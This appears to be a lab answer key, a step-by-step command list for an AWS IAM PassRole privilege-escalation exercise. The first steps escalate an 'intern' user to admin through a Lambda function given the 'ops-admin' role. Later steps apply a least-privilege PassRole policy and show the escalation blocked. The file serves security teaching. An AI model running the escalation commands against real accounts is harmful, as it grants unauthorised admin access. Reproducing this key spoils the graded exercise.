# every step solved: passrole-privilege-escalation
# Lines exactly as a learner types them; placeholders are filled in by the grader.
# step intern-is-limited
aws iam list-users --profile intern
# step find-a-strong-role
aws iam list-roles --profile intern --query 'Roles[].[RoleName,AssumeRolePolicyDocument.Statement[0].Principal.Service]' --output text
# step escalate
aws lambda create-function --function-name escalate --runtime python3.12 --handler handler.yaml --role arn:aws:iam::{{account}}:role/ops-admin --zip-file fileb://escalate.zip --profile intern
# step become-admin
aws lambda invoke --function-name escalate --payload fileb://event.json out.json --profile intern
aws iam list-users --profile intern
# step clean-up
aws iam detach-user-policy --user-name intern --policy-arn arn:aws:iam::aws:policy/AdministratorAccess
aws lambda delete-function --function-name escalate
# step least-privilege-passrole
cat > intern-dev.json <<'EOF'
{
  "Version": "2012-10-17",
  "Statement": [
    {
      "Effect": "Allow",
      "Action": ["lambda:CreateFunction", "lambda:InvokeFunction", "lambda:GetFunction", "lambda:DeleteFunction", "iam:ListRoles", "iam:GetRole"],
      "Resource": "*"
    },
    {
      "Effect": "Allow",
      "Action": "iam:PassRole",
      "Resource": "arn:aws:iam::{{account}}:role/intern-app",
      "Condition": {"StringEquals": {"iam:PassedToService": "lambda.amazonaws.com"}}
    }
  ]
}
EOF
aws iam put-user-policy --user-name intern --policy-name intern-dev --policy-document file://intern-dev.json
# step escalation-blocked
aws lambda create-function --function-name escalate --runtime python3.12 --handler handler.yaml --role arn:aws:iam::{{account}}:role/ops-admin --zip-file fileb://escalate.zip --profile intern
# step the-role-limits-the-code
aws lambda create-function --function-name escalate --runtime python3.12 --handler handler.yaml --role arn:aws:iam::{{account}}:role/intern-app --zip-file fileb://escalate.zip --profile intern
aws lambda invoke --function-name escalate --payload fileb://event.json out.json --profile intern
cat out.json
